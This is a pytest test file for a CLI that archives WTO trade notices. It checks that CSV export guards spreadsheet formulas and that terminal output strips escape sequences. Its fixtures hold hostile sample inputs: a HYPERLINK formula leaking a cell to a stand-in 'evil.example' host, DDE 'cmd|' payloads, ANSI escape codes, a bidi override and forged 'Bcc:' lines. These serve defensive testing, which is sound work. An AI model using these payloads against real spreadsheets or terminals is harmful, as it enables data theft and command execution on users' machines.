"""CLI output of crawled text: spreadsheets and terminals get data, never formulas or escape sequences.

Real commands (``tbtwatch import``, ``export``, ``show``, ``search``) through Typer's runner on a real
SQLite archive, with a notice whose every text field is hostile. Proved: the CLI's CSV export guards every
cell a spreadsheet would run (``=HYPERLINK``, ``+cmd|``, ``-``, ``@SUM``) exactly as the web export does -
one writer for both; every text field is cleaned of control characters at the model; ``show`` and
``search`` print no escape sequence, carriage return or forged line from the notice.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from commands.cli import app
from tbtwatch.settings import get_settings

pytestmark = pytest.mark.timeout(60)

FORMULAS = {"title": '=HYPERLINK("http://evil.example/?leak="&A1,"Battery rules")',
            "products": "+cmd|' /C calc'!A0 batteries", "description": "@SUM(1+1)*cmd|' /C calc'!A0",
            "member": "-2+3+cmd|' /C calc'!A0"}
RUNNABLE = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def archive(home, tmp_path):
    notice = {"symbol": "G/TBT/N/EU/777", "distribution_date": "2026-03-02", **FORMULAS,
              "objectives": ["=1+1"], "hs_codes": ["8507"]}
    path = tmp_path / "hostile.jsonl"
    path.write_text(json.dumps(notice) + "\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["import", str(path)])
    assert result.exit_code == 0, result.output
    return get_settings()


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_cli_csv_export_guards_every_formula_cell_as_the_web_export_does(archive, tmp_path):
    target = tmp_path / "notices.csv"
    result = CliRunner().invoke(app, ["export", "--format", "csv", "-o", str(target)])
    assert result.exit_code == 0, result.output
    [row] = cells(target.read_text(encoding="utf-8"))
    unguarded = {k: v for k, v in row.items() if v.startswith(RUNNABLE)}
    assert unguarded == {}, unguarded
    for name, value in FORMULAS.items():
        if name != "member":
            assert row[name] == "'" + value  # guarded, and otherwise the text as notified
    assert row["member"] == "European Union"  # a member is named as members.yaml names it, never as spelt
    assert row["objectives"] == "'=1+1"

    from webapp.app import create_app

    with TestClient(create_app(archive), base_url="http://127.0.0.1") as client:
        [web_row] = cells(client.get("/api/search", params={"format": "csv"}).text)
    assert {k: web_row[k] for k in row} == row  # one writer: the same cells from the CLI and the web


CONTROLS = "\x00\x07\x1b\x7f\x9b"
TERMINAL_HOSTILE = {
    "symbol": "G/TBT/N/EU/778", "distribution_date": "2026-03-02", "language": "en",
    "title": "Battery \x1b[31mrules\x1b]0;owned\x07 [bold red]markup[/bold red]",
    "description": "Toy safety.\r\nBcc: victim@example.org\nSubject: forged",
    "products": "Toys \u202eslobmys\u202c (HS 9503)",
    "member": "European\x1b[2J Union\r\nBcc: victim@example.org",
    "adoption_date": "2026-06-01\x1b[1A\rforged",
    "entry_into_force": "\x07180 days\u2028after publication",
    "source": "wto_docs\x1b[0m",
    "objectives": ["Safety\x1b[5m"], "urls": ["https://example.org/\x1b[8mdoc"],
}


def test_every_text_field_is_cleaned_of_control_characters_at_the_model():
    from tbtwatch.model import notice_from_dict

    notice = notice_from_dict(TERMINAL_HOSTILE)
    for name, value in notice.model_dump(mode="json").items():
        text = json.dumps(value, ensure_ascii=False)
        assert not any(c in text for c in CONTROLS), (name, value)
        if name not in ("description", "translations"):  # one-line fields keep no line break either
            assert "\n" not in str(value) and "\r" not in str(value), (name, value)
    assert notice.member == "European[2J Union Bcc: victim@example.org"  # the ESC is gone: "[2J" is inert text
    assert notice.entry_into_force == "180 days after publication"


def _terminal_lines(output: str) -> list[str]:
    assert not any(c in output for c in CONTROLS + "\r\u202e\u2028"), repr(output)
    return output.splitlines()


def test_show_and_search_print_crawled_text_through_one_escaping_path(home, tmp_path):
    path = tmp_path / "terminal.jsonl"
    path.write_text(json.dumps(TERMINAL_HOSTILE) + "\n", encoding="utf-8")
    runner = CliRunner()
    assert runner.invoke(app, ["import", str(path)]).exit_code == 0
    shown = runner.invoke(app, ["show", "G/TBT/N/EU/778"])
    assert shown.exit_code == 0, shown.output
    lines = _terminal_lines(shown.output)
    assert not [line for line in lines if line.startswith(("Bcc:", "Subject:"))], lines  # no forged line
    assert "[bold red]markup[/bold red]" in shown.output  # crawled text is never read as markup
    assert "\\u202e" in shown.output  # a bidi override is shown, not obeyed
    found = runner.invoke(app, ["search", "battery"], env={"COLUMNS": "300"})
    assert found.exit_code == 0 and "G/TBT/N/EU/778" in found.output, found.output
    assert "[bold red]markup[/bold red]" in " ".join(_terminal_lines(found.output))
